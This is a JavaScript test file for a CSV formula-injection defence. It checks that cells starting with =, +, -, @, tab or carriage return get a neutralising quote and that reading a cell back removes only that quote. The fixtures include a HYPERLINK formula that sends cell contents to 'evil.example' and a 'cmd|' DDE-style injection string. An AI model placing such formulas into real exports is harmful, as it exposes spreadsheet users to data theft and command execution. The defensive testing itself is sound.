import assert from 'node:assert/strict';
import { test } from 'node:test';
import { neutraliseCsvCell, restoreCsvCell, stringifyCsv } from './csv.js';

test('text a spreadsheet would run as a formula gets a leading quote; numbers and plain text do not', () => {
  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
  for (const text of [formula, '+1+cmd|x', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '-', '-x', '=1'])
    assert.equal(neutraliseCsvCell(text), `'${text}`, JSON.stringify(text));
  for (const data of ['-12', '+3.5', '-0,75', '-.5', '1e-3', '-1E+4', 'plain', '', "'already", 'a=b', ' =1'])
    assert.equal(neutraliseCsvCell(data), data, JSON.stringify(data));
  assert.equal(neutraliseCsvCell(-12), -12);
  assert.equal(neutraliseCsvCell(null), null);
  assert.equal(
    stringifyCsv([['a', formula, -5, '-5']]),
    `a,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",-5,-5\n`,
  );
});

test('a cell read back loses only the quote that neutralising added', () => {
  for (const text of ['=HYPERLINK("x")', '@a', '-x', '-5', "'-5", "'plain", 'plain', "''=x"])
    assert.equal(restoreCsvCell(String(neutraliseCsvCell(text))), text, JSON.stringify(text));
});
